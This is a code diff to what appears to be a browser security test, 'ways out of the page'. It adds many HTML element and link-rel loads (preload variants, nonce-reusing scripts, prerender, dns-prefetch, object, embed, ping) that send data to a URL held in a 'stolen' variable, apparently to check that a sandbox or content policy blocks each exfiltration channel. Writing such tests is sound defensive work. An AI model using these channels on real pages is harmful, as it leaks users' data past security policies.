@@ -66,6 +66,13 @@ lab.attack("ways out of the page", async () => {
     load("img", { src: stolen + "img" }), load("link", { rel: "stylesheet", href: stolen + "css" }), load("link", { rel: "prefetch", href: stolen + "prefetch" }),
     load("link", { rel: "icon", href: stolen + "icon" }), load("link", { rel: "manifest", href: stolen + "manifest" }), load("video", { src: stolen + "video" }), load("audio", { src: stolen + "audio" }),
     load("iframe", { src: stolen + "frame" }), load("link", { rel: "modulepreload", href: stolen + "module" }), load("track", { src: stolen + "track" }),
+    ...["script", "style", "image", "font", "fetch", "track", "audio", "video", "document", "worker"].map((as) => load("link", { rel: "preload", as, href: stolen + "preload-" + as })),
+    load("link", { rel: "preload", as: "script", href: stolen + "preload-nonced", nonce: document.querySelector("script[src]").nonce }),
+    load("link", { rel: "modulepreload", href: stolen + "module-nonced", nonce: document.querySelector("script[src]").nonce }),
+    load("link", { rel: "preload", as: "script", crossorigin: "", href: stolen + "preload-cors" }),
+    load("link", { rel: "prerender", href: stolen + "prerender" }), load("link", { rel: "dns-prefetch", href: stolen + "dns" }), load("link", { rel: "preconnect", href: stolen + "connect" }),
+    load("object", { data: stolen + "object" }), load("embed", { src: stolen + "embed" }), load("source", { src: stolen + "source" }), load("input", { type: "image", src: stolen + "input" }),
+    load("body", { background: stolen + "body" }), load("script", { src: stolen + "script", nonce: document.querySelector("script[src]").nonce }),
   ]);
   const ping = Object.assign(document.createElement("a"), { href: "#x", ping: stolen + "ping" });
   document.body.append(ping);
